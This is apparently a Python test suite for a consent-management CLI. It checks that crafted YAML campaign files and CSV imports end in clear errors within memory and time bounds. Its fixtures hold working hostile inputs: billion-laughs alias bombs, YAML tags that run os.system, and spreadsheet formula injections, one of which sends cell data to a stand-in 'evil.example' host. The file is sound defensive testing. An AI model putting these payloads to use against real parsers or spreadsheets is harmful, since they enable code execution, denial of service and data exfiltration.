"""Hostile files: campaign YAML and CSV imports built to crash, hang or exhaust izin.

Every input goes through the real CLI in a child process, so a bomb that escaped its bounds would
show as the child's peak RSS or run time, and a traceback as text on its stderr. The child runs all
inputs of one kind in turn and reports, per input, the exit status, the output and the peak RSS so
far (ru_maxrss only grows, so the input that blew it up is the first one over the bound).
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from izin.campaigns.spec import SpecError, parse_campaign

#: the bounds every hostile input must stay within (generous for a loaded CI machine)
MAX_RSS_MB = 300
MAX_SECONDS = 20
NOW = "2026-11-24T12:00:00+03:00"

# Runs `izin ARGS...` in-process once per case (through Click, as the console script does) and
# prints one JSON line per case: exit status, stdout, stderr, the exception if one escaped, seconds
# and peak RSS in MB.
_HARNESS = r"""
import json, sys, time, traceback
from click.testing import CliRunner
from izin.cli import cli
runner = CliRunner()
def peak_rss_mb():
    # VmHWM, not ru_maxrss: Linux carries ru_maxrss over exec, so it would report the parent's peak
    with open("/proc/self/status") as status:
        return next(int(l.split()[1]) for l in status if l.startswith("VmHWM:")) / 1024
for args in json.loads(sys.argv[1]):
    started = time.perf_counter()
    result = runner.invoke(cli, args, catch_exceptions=True)
    escaped = None
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        escaped = "".join(traceback.format_exception(result.exception))
    print(json.dumps({"args": args, "exit": result.exit_code, "stdout": result.stdout,
                      "stderr": result.stderr, "escaped": escaped,
                      "seconds": time.perf_counter() - started,
                      "rss_mb": peak_rss_mb()}), flush=True)
"""


def run_cli(cases: list[list[str]], cwd: Path) -> list[dict]:
    """Run each argument list through `izin` in one child process; one result per case."""
    env = {**os.environ, "IZIN_DATABASE_URL": f"sqlite:///{cwd / 'izin.db'}", "IZIN_NOW": NOW,
           "IZIN_SECRET_KEY": "test-secret"}
    env.pop("IZIN_CONFIG", None)
    env.pop("IZIN_BROKER_URL", None)
    done = subprocess.run([sys.executable, "-c", _HARNESS, json.dumps(cases)], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=MAX_SECONDS * len(cases) + 30)
    assert done.returncode == 0, done.stderr[-3000:]
    return [json.loads(line) for line in done.stdout.splitlines()]


def assert_clean(result: dict, exit_code: int) -> None:
    """The contract for hostile input: the expected exit status, no traceback, within the bounds."""
    assert result["escaped"] is None, result["escaped"]
    assert "Traceback" not in result["stderr"] + result["stdout"]
    assert result["exit"] == exit_code, result
    assert result["seconds"] < MAX_SECONDS, result
    assert result["rss_mb"] < MAX_RSS_MB, result


# --- campaign YAML -------------------------------------------------------------------------------

def _laughs(levels: int = 9) -> str:
    lines = ["l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for level in range(1, levels):
        lines.append(f"l{level}: &l{level} [" + ", ".join([f"*l{level - 1}"] * 9) + "]")
    return "name: bomba\n" + "\n".join(lines) + "\n"


def _deep_block(levels: int) -> str:
    return "".join(" " * i + f"k{i}:\n" for i in range(levels)) + " " * levels + "x\n"


def yaml_bombs() -> list[tuple[str, bytes, str]]:
    """(file name, content, what the first problem must say); built on demand, some are large."""
    return [
    ("laughs.yaml", _laughs().encode(), "expands the document beyond 10000 values"),
    ("laughs-map.yaml", (b"a: &a {x: 1, y: 2, z: 3, w: 4, v: 5, u: 6, t: 7, s: 8}\n"
                         + b"".join(f"{c}: &{c} {{".encode() + b", ".join(f"k{i}: *{p}".encode() for i in range(8))
                                    + b"}\n" for p, c in zip("abcdefg", "bcdefgh"))),
     "expands the document beyond 10000 values"),
    ("quadratic.yaml", b"a: &a " + b"x" * 100_000 + b"\nb: [" + b", ".join([b"*a"] * 20_000) + b"]\n",
     "more than 10000 values"),
    ("self-alias.yaml", b"a: &a [1, *a]\n", "alias *a refers to a node that contains it"),
    ("huge.yaml", b"name: x\n" + b"# padding padding padding padding padding padding padding\n" * 350_000,
     "file is larger than 1048576 bytes"),
    ("deep-seq.yaml", b"[" * 100_000, "nesting deeper than 50 levels"),
    ("deep-map.yaml", b"{" * 100_000, "nesting deeper than 50 levels"),
    ("deep-block.yaml", _deep_block(1_000).encode(), "nesting deeper than 50 levels"),
    ("flat.yaml", b"x: [" + b",".join([b"1"] * 400_000) + b"]\n", "more than 10000 values"),
    ("python-object.yaml", b"name: !!python/object/apply:os.system ['touch PWNED']\n",
     "tag '!!python/object/apply:os.system' is not allowed"),
    ("python-name.yaml", b"name: !!python/name:os.system ''\n", "tag '!!python/name:os.system' is not allowed"),
    ("binary.yaml", b"name: !!binary aGVsbG8=\n", "tag '!!binary' is not allowed"),
    ("local-tag.yaml", b"name: !<tag:yaml.org,2002:python/object/new:os.system> [x]\n",
     "tag '!!python/object/new:os.system' is not allowed"),
    ("cp1254.yaml", "name: doğum-günü\n".encode("cp1254"), "file is not UTF-8 text; save it as UTF-8"),
    ("utf16.yaml", "name: x\n".encode("utf-16"), "file is not UTF-8 text; save it as UTF-8"),
    ("nul.yaml", b"name: ab\x00cd\n", "control character U+0000 is not allowed"),
    ]


def test_yaml_bombs_end_in_a_clear_error_within_bounds(tmp_path, findings):
    bombs = yaml_bombs()
    for name, content, _ in bombs:
        (tmp_path / name).write_bytes(content)
    assert (tmp_path / "huge.yaml").stat().st_size > 20_000_000
    results = run_cli([["campaign", "validate", name] for name, _, _ in bombs], tmp_path)
    assert len(results) == len(bombs)
    clear = 0
    for (name, _, expected), result in zip(bombs, results):
        assert_clean(result, 2)
        first = result["stderr"].splitlines()[0]
        assert first.startswith(f"{name}:"), first
        # FILE:LINE:COL: ...
        line, column = first.split(":")[1:3]
        assert line.isdigit() and column.isdigit(), first
        assert expected in result["stderr"], (name, result["stderr"])
        clear += 1
    assert not (tmp_path / "PWNED").exists()
    findings("yaml bombs", inputs=len(bombs), clear_errors=clear, tracebacks=0,
             peak_rss_mb=round(max(r["rss_mb"] for r in results), 1),
             slowest_s=round(max(r["seconds"] for r in results), 2))


def test_yaml_exact_errors_for_the_classic_bombs():
    with pytest.raises(SpecError) as caught:
        parse_campaign(_laughs(), "c.yaml")
    assert str(caught.value) == ("c.yaml:6:10: alias *l3 expands the document beyond 10000 values; "
                                 "write the content out instead of nesting aliases")
    with pytest.raises(SpecError) as caught:
        parse_campaign(b"x: [" + b",".join([b"1"] * 400_000) + b"]\n", "c.yaml")
    assert str(caught.value) == "c.yaml:1:19999: more than 10000 values in one file; a campaign file is far smaller"
    with pytest.raises(SpecError) as caught:
        parse_campaign("name: \ud800\n", "c.yaml")  # a lone surrogate, only possible through the API
    assert str(caught.value) == "c.yaml:1:7: invalid YAML: control character U+D800 is not allowed; remove it"


_YAML_ALPHABET = "[]{}:-,&*!?|>'\"#%@` \t\nabcxyz019._<"
#: plausible campaign keys, so fuzzed documents reach the schema and the rules, not only the parser
_KEYS = st.sampled_from(["name", "trigger", "type", "at", "send_time", "channels", "content", "sms", "email",
                         "text", "subject", "html", "audience", "all", "any", "not", "attribute", "in",
                         "gte", "coupon", "prefix", "percent", "purpose", "delay", "event", "within", "x"])
_VALUES = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True), st.text(max_size=20),
              st.sampled_from(["birthday", "once", "after_event", "sms", "email", "10:00", "3d", "{{ x }}",
                               "{% for %}", "commercial", "transactional", "2026-11-27T10:00:00+03:00"])),
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(_KEYS, inner, max_size=5)),
    max_leaves=20)


def _documents() -> st.SearchStrategy:
    import yaml

    structured = st.dictionaries(_KEYS, _VALUES, max_size=8).map(
        lambda d: yaml.safe_dump(d, allow_unicode=True, sort_keys=False))
    return st.one_of(st.binary(max_size=400), st.text(max_size=400),
                     st.text(alphabet=_YAML_ALPHABET, max_size=300), structured)


def test_yaml_fuzz_only_ever_raises_positioned_spec_errors(findings):
    """Any bytes, any text, YAML-ish noise and random campaign-shaped documents: a SpecError whose
    every problem is FILE:LINE:COL, or a campaign; never anything else."""
    seen = {"documents": 0, "refused": 0, "accepted": 0}

    @settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck), database=None)
    @given(_documents())
    def check(source):
        seen["documents"] += 1
        try:
            parse_campaign(source, "fuzz.yaml")
            seen["accepted"] += 1
        except SpecError as error:
            assert error.exit_code == 2
            for problem in error.problems:
                assert str(problem).startswith("fuzz.yaml:") and problem.line >= 1 and problem.column >= 1
            seen["refused"] += 1

    check()
    assert seen["documents"] == seen["refused"] + seen["accepted"]
    findings("yaml fuzz", documents=seen["documents"], refused=seen["refused"], accepted=seen["accepted"],
             other_exceptions=0)


@pytest.mark.heavy
@settings(max_examples=20_000, deadline=None, suppress_health_check=list(HealthCheck))
@given(_documents())
def test_yaml_fuzz_heavy(source):
    try:
        parse_campaign(source, "fuzz.yaml")
    except SpecError as error:
        assert all(str(p).startswith("fuzz.yaml:") for p in error.problems)


# --- CSV imports ---------------------------------------------------------------------------------

CONTACTS_HEADER = "external_id,first_name,email,phone"


def _contacts(rows: list[str], header: str = CONTACTS_HEADER, newline: str = "\n") -> str:
    return newline.join([header, *rows]) + newline


def contact_files() -> list[tuple[str, bytes, int, str, dict[int, str]]]:
    """(file, content, exit status, expected stdout or stderr, {line: reason} of the rejects)."""
    return [
    ("utf16.csv", ("\ufeff" + _contacts(["c1,Ayşe,a1@example.com,05321234567"])).encode("utf-16"), 2,
     "izin: error: utf16.csv:1: is UTF-16 (Excel: Unicode Text); save the file as UTF-8 (Excel: CSV UTF-8) "
     "and import again\n", {}),
    ("cp1254.csv", _contacts(["c1,Ali,a1@example.com,", "c2,Ayşe Işık,a2@example.com,"]).encode("cp1254"), 2,
     "izin: error: cp1254.csv:3: is not UTF-8 (byte 0xfe); save the file as UTF-8 (Excel: CSV UTF-8) "
     "and import again\n", {}),
    ("nul.csv", _contacts(["c1,Ay\x00se,a1@example.com,", "c2,Ali,a2@example.com,"]).encode(), 0,
     "nul.csv: 1 imported, 0 updated, 0 unchanged, 1 rejected (see rejects.csv)\n",
     {2: "row: contains a NUL character"}),
    ("big-cell.csv", _contacts(["c1," + "A" * 1_048_576 + ",a1@example.com,", "c2,Ali,a2@example.com,",
                                'c3,"' + "B" * 1_048_576 + '",a3@example.com,', "c4,Can,a4@example.com,"]).encode(),
     0, "big-cell.csv: 2 imported, 0 updated, 0 unchanged, 2 rejected (see rejects.csv)\n",
     {2: "row: a cell is longer than 65536 characters", 4: "row: a cell is longer than 65536 characters"}),
    ("wide.csv", (",".join(["external_id"] + [f"c{i}" for i in range(1_000_000)]) + "\nx\n").encode(), 2,
     "izin: error: wide.csv:1: has 1000001 columns; at most 1000 are accepted\n", {}),
    ("wide-row.csv", _contacts(["c1," + ",".join(["x"] * 1_000_000), "c2,Ali,a2@example.com,"]).encode(), 0,
     "wide-row.csv: 1 imported, 0 updated, 0 unchanged, 1 rejected (see rejects.csv)\n",
     {2: "row: has 1000001 cells but the header has 4"}),
    ("cr-only.csv", _contacts(["c1,Ali,a1@example.com,", "c2,Veli,bad-email,", "c3,Can,a3@example.com,"],
                              newline="\r").encode(), 0,
     "cr-only.csv: 2 imported, 0 updated, 0 unchanged, 1 rejected (see rejects.csv)\n",
     {3: "email: 'bad-email' is not a valid email address: An email address must have an @-sign."}),
    ("unterminated.csv", _contacts(["c1,Ali,a1@example.com,", 'c2,"Veli,a2@example.com,', "c3,Can,a3@example.com,",
                                    "c4,Su,a4@example.com,"]).encode(), 0,
     "unterminated.csv: 3 imported, 0 updated, 0 unchanged, 1 rejected (see rejects.csv)\n",
     {3: 'row: a quote (") opened in this row is never closed; close it or remove it'}),
    ("endless-quote.csv", (_contacts(["c1,Ali,a1@example.com,", 'c2,"Veli'])
                           + ("y" * 99 + "\n") * 200_000).encode(), 2,
     "izin: error: endless-quote.csv:3: a cell starting on this line is longer than 8388608 characters (a quote "
     "never closed?); nothing after it was read, the rows before it were imported\n", {}),
    ("formula.csv", _contacts(['c1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",bad,',
                               "c2,+cmd|' /C calc'!A0,nope,", "c3,@SUM(1+1)*cmd,x@,", "c4,-2+3,y@,",
                               "c5,Ali,a5@example.com,"]).encode(), 0,
     "formula.csv: 1 imported, 0 updated, 0 unchanged, 4 rejected (see rejects.csv)\n",
     {2: "email: 'bad' is not a valid email address: An email address must have an @-sign.",
      3: "email: 'nope' is not a valid email address: An email address must have an @-sign.",
      4: "email: 'x@' is not a valid email address: There must be something after the @-sign.",
      5: "email: 'y@' is not a valid email address: There must be something after the @-sign."}),
    ]


def _import_case(tmp_path: Path, command: str, name: str, content: bytes, own_ids: bool = False) -> list[str]:
    folder = tmp_path / name.removesuffix(".csv")
    folder.mkdir()
    if own_ids:  # contacts of its own (c1 -> cr-only-c1), as the cases share one database
        tag = folder.name.encode() + b"-c"
        content = content.replace(b"\nc", b"\n" + tag).replace(b"\rc", b"\r" + tag)
    (folder / name).write_bytes(content)
    return [command, "import", str(folder / name), "--rejects", str(folder / "rejects.csv")]


def _read_rejects(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def test_hostile_contacts_files(tmp_path, findings):
    files = contact_files()
    cases = [["init"]] + [_import_case(tmp_path, "contacts", name, content, own_ids=True) for name, content, *_ in files]
    cases.append(["consent", "show", "endless-quote-c1"])
    results = run_cli(cases, tmp_path)
    assert_clean(results[0], 0)
    rejected = 0
    for (name, _, exit_code, expected, rejects), result in zip(files, results[1:]):
        assert_clean(result, exit_code)
        folder = tmp_path / name.removesuffix(".csv")
        shown = (result["stdout"] if exit_code == 0 else result["stderr"])
        assert shown.replace(str(folder) + "/", "") == expected, (name, shown)
        rejects_file = folder / "rejects.csv"
        assert rejects_file.exists() == bool(rejects), name
        if rejects:
            table = _read_rejects(rejects_file)
            assert table[0] == ["external_id", "first_name", "email", "phone", "line", "reason"]
            assert {int(r[4]): r[5] for r in table[1:]} == rejects, name
            rejected += len(table) - 1
    # the rows before a quote that never closes are imported; reading stops at it
    assert_clean(results[-1], 0)  # `consent show` exits 2 for a contact that does not exist
    # formulas come back as text, never as something a spreadsheet would run
    formula = _read_rejects(tmp_path / "formula" / "rejects.csv")
    assert [r[1] for r in formula[1:]] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                                           "'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd", "'-2+3"]
    findings("hostile contacts csv", files=len(files), clean_outcomes=len(files),
             rows_rejected=rejected, tracebacks=0, formulas_neutralised=4,
             peak_rss_mb=round(max(r["rss_mb"] for r in results), 1),
             slowest_s=round(max(r["seconds"] for r in results), 2))


def test_wide_rows_are_imported_in_bounded_memory(tmp_path, findings):
    """96 MB of rows with 16 attribute cells of 60,000 characters each: memory follows the batch
    budget, not the file (before batches were capped by characters this peaked at ~290 MB)."""
    cell = "x" * 60_000
    with (tmp_path / "fat.csv").open("w", encoding="utf-8") as f:
        f.write("external_id," + ",".join(f"a{i}" for i in range(16)) + "\n")
        for row in range(100):
            f.write(f"f{row}," + ",".join([cell] * 16) + "\n")
    results = run_cli([["init"], ["contacts", "import", "fat.csv"]], tmp_path)
    assert_clean(results[1], 0)
    assert results[1]["stdout"] == "fat.csv: 100 imported, 0 updated, 0 unchanged, 0 rejected\n"
    assert results[1]["rss_mb"] < 200, results[1]["rss_mb"]
    findings("wide csv rows", file_mb=96, rows=100, peak_rss_mb=round(results[1]["rss_mb"], 1),
             seconds=round(results[1]["seconds"], 2))


def test_hostile_consent_and_events_files(tmp_path, findings):
    contacts = tmp_path / "contacts.csv"
    contacts.write_text(_contacts([f"c{i},Ad{i},c{i}@example.com,0532 100 00 0{i}" for i in range(1, 5)]),
                        encoding="utf-8")
    consent_header = "external_id,channel,status,source,consent_date,proof"
    events_header = "external_id,event,occurred_at,event_id,note"
    good_consent = ["c1,email,ONAY,HS_WEB,2026-11-01T10:00:00+03:00,form v1",
                    "c2,sms,ONAY,HS_WEB,2026-11-01T10:00:00+03:00,form v1"]
    good_events = ["c1,purchase,2026-11-01T10:00:00+03:00,e1,ok", "c2,purchase,2026-11-02T10:00:00+03:00,e2,ok"]
    files = {
        "consent": {
            "formula.csv": _contacts(['c3,email,ONAY,=HYPERLINK("x"),2026-11-01T10:00:00+03:00,x', *good_consent,
                                      'c4,email,ONAY,HS_WEB,2026-11-01T10:00:00+03:00,"@SUM(A1)"'],
                                     consent_header).encode(),
            "unterminated.csv": _contacts(['c3,email,ONAY,HS_WEB,"2026-11-01', *good_consent], consent_header).encode(),
            "nul.csv": _contacts(["c3,email,ONAY,HS_WEB,2026-11-01T10:00:00+03:00,a\x00b", *good_consent],
                                 consent_header).encode(),
            "utf16.csv": _contacts(good_consent, consent_header).encode("utf-16"),
        },
        "events": {
            "formula.csv": _contacts(["c3,purchase,=1+1,e3,x", *good_events, "c4,purchase,2026-11-01,e4,+cmd"],
                                     events_header).encode(),
            "big-cell.csv": _contacts(["c3,purchase,2026-11-01,e3," + "x" * 1_048_576, *good_events],
                                      events_header).encode(),
            "cr-only.csv": _contacts(good_events, events_header, newline="\r").encode(),
            "cp1254.csv": _contacts(["c3,satın-alım,2026-11-01,e3,ığ", *good_events], events_header).encode("cp1254"),
        },
    }
    cases = [["init"], ["contacts", "import", str(contacts)]]
    keys = []
    for command, named in files.items():
        (tmp_path / command).mkdir()
        for name, content in named.items():
            cases.append(_import_case(tmp_path / command, command, name, content))
            keys.append((command, name))
    results = run_cli(cases, tmp_path)
    assert_clean(results[0], 0)
    assert_clean(results[1], 0)
    got = dict(zip(keys, results[2:]))
    for (command, name), result in got.items():
        assert_clean(result, 2 if name in ("utf16.csv", "cp1254.csv") else 0)
    out = {key: r["stdout"].split(": ", 1)[-1].split(" (see")[0] for key, r in got.items()}
    assert out[("consent", "formula.csv")] == "3 imported, 0 updated, 0 unchanged, 1 rejected"
    # the good rows were read and reached the ledger, which refuses them as repeats of formula.csv's
    assert out[("consent", "unterminated.csv")] == "0 imported, 0 updated, 0 unchanged, 3 rejected"
    assert out[("consent", "nul.csv")] == "0 imported, 0 updated, 0 unchanged, 3 rejected"
    for name, line_2 in (("unterminated", 'row: a quote (") opened in this row is never closed; close it or remove it'),
                         ("nul", "row: contains a NUL character")):
        table = _read_rejects(tmp_path / "consent" / name / "rejects.csv")
        assert [(r[-2], r[-1].split(":")[0]) for r in table[1:]] == [("2", "row"), ("3", "status"), ("4", "status")]
        assert table[1][-1] == line_2
    assert got[("consent", "utf16.csv")]["stderr"].endswith(
        "utf16.csv:1: is UTF-16 (Excel: Unicode Text); save the file as UTF-8 (Excel: CSV UTF-8) and import again\n")
    assert out[("events", "formula.csv")] == "3 imported, 0 updated, 0 unchanged, 1 rejected"
    assert out[("events", "big-cell.csv")] == "0 imported, 0 updated, 2 unchanged, 1 rejected"
    assert out[("events", "cr-only.csv")] == "0 imported, 0 updated, 2 unchanged, 0 rejected\n"
    assert "cp1254.csv:2: is not UTF-8 (byte 0xfd)" in got[("events", "cp1254.csv")]["stderr"]
    consent_formula = _read_rejects(tmp_path / "consent" / "formula" / "rejects.csv")
    assert [(r[0], r[3], r[-1]) for r in consent_formula[1:]] == [
        ("c3", "'=HYPERLINK(\"x\")", "source: unknown source '=HYPERLINK(\"X\")'; use an İYS code such as HS_WEB, "
                                     "HS_MESAJ, HS_FIZIKSEL_ORTAM, HS_ISLAK_IMZA, HS_CAGRI_MERKEZI")]
    events_formula = _read_rejects(tmp_path / "events" / "formula" / "rejects.csv")
    assert [(r[0], r[2], r[4], r[5]) for r in events_formula[1:]] == [("c3", "'=1+1", "x", "2")]
    findings("hostile consent and events csv", files=sum(map(len, files.values())), tracebacks=0,
             peak_rss_mb=round(max(r["rss_mb"] for r in results), 1))


def test_audit_export_csv_neutralises_formulas_from_imported_proof(cli, tmp_path):
    (tmp_path / "c.csv").write_text(_contacts(["c1,=cmd,c1@example.com,"]), encoding="utf-8")
    cli("contacts", "import", "c.csv")
    (tmp_path / "k.csv").write_text(
        'external_id,channel,status,source,consent_date,proof\n'
        'c1,email,ONAY,HS_WEB,2026-11-01T10:00:00+03:00,"=HYPERLINK(""http://evil"",""x"")"\n', encoding="utf-8")
    cli("consent", "import", "k.csv")
    cli("audit", "export", "--kind", "consent", "--format", "csv", "-o", "audit.csv")
    rows = list(csv.DictReader((tmp_path / "audit.csv").open(encoding="utf-8", newline="")))
    assert [row["proof"] for row in rows] == ["'=HYPERLINK(\"http://evil\",\"x\")"]


# --- instants and durations at the edges of what datetime can hold -------------------------------

EDGE_INSTANTS = ["0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-12:00", "1899-12-31T23:59:59+00:00"]


def test_instants_past_what_a_time_zone_can_show_are_input_errors(cli, tmp_path, findings):
    """Year 1 at +01:00 has no UTC form and year 9999 late at -12:00 none in Türkiye time: each is a
    clear error (exit 2) on every way in, never an OverflowError traceback."""
    cli("contacts", "import", _write(tmp_path / "c.csv", _contacts(["c1,Ali,c1@example.com,"])))
    rows = [f"c1,email,ONAY,HS_WEB,{at}" for at in EDGE_INSTANTS]
    cli("consent", "import", _write(tmp_path / "k.csv",
                                    _contacts(rows, "external_id,channel,status,source,consent_date")))
    assert [r[-1] for r in _read_rejects(tmp_path / "k.rejects.csv")[1:]] == [
        f"consent_date: '{at}' is out of range; use a year from 1900 to 9998" for at in EDGE_INSTANTS]
    refused = 0
    for at in EDGE_INSTANTS:
        result = cli("consent", "grant", "c1", "--channel", "email", "--source", "HS_WEB", "--at", at, expect=2)
        assert result.stderr == f"izin: error: --at: '{at}' is out of range; use a year from 1900 to 9998\n"
        result = cli("consent", "show", "c1", expect=2, env={"IZIN_NOW": at})
        assert result.stderr == f"izin: error: IZIN_NOW: '{at}' is out of range; use a year from 1900 to 9998\n"
        _write(tmp_path / "once.yaml", f'name: x\ntrigger: {{type: once, at: "{at}"}}\nchannels: [sms]\n'
                                       "content:\n  sms: {text: hi}\n")
        result = cli("campaign", "plan", "once.yaml", expect=2)
        assert result.stderr == (f"izin: error: once.yaml:2:27: trigger.at: '{at}' is out of range; "
                                 "use a year from 1900 to 9998\n")
        refused += 4
    for delay in ("9999999999d", "99999999w", "5229w"):
        _write(tmp_path / "late.yaml", f"name: x\ntrigger: {{type: after_event, event: purchase, delay: {delay}}}\n"
                                       "channels: [sms]\ncontent:\n  sms: {text: hi}\n")
        result = cli("campaign", "plan", "late.yaml", expect=2)
        assert result.stderr == (f"izin: error: late.yaml:2:54: trigger.delay: '{delay}' is longer than 100 years; "
                                 "write a shorter duration\n")
        refused += 1
    _write(tmp_path / "capped.yaml", 'name: x\ntrigger: {type: once, at: "2026-11-24T10:00:00+03:00"}\n'
                                     "channels: [sms]\nlimits: {frequency_cap: 1/9999999w}\ncontent:\n  sms: {text: hi}\n")
    assert cli("campaign", "plan", "capped.yaml", expect=2).stderr == (
        "izin: error: capped.yaml:4:25: limits.frequency_cap: '1/9999999w' has a period longer than 100 years; "
        "write a shorter one, e.g. 3/7d\n")
    refused += 1
    findings("edge instants and durations", inputs=refused + len(EDGE_INSTANTS), clear_errors=refused + len(EDGE_INSTANTS),
             tracebacks=0)


def _write(path: Path, text: str) -> str:
    path.write_text(text, encoding="utf-8")
    return path.name


def test_arguments_that_are_not_utf8_are_usage_errors(cli, findings):
    """A byte that is not UTF-8 on the command line arrives as a lone surrogate (Python's
    surrogateescape); the ledger's hash and the database cannot take it."""
    attempts = [("consent", "grant", "c\udcff1", "--channel", "sms", "--source", "HS_WEB"),
                ("consent", "grant", "c1", "--channel", "sms", "--source", "HS_WEB", "--proof", "form \udcff"),
                ("audit", "export", "--contact", "c\udcff1"), ("contacts", "import", "k\udcff.csv")]
    for args in attempts:
        bad = next(a for a in args if "\udcff" in a)
        result = cli(*args, expect=2)
        assert result.stderr.endswith(f"Error: {bad!r} is not UTF-8 text; pass names and values as UTF-8 "
                                      "(rename a file whose name is not)\n"), result.stderr
    findings("non-UTF-8 arguments", attempts=len(attempts), usage_errors=len(attempts), tracebacks=0)
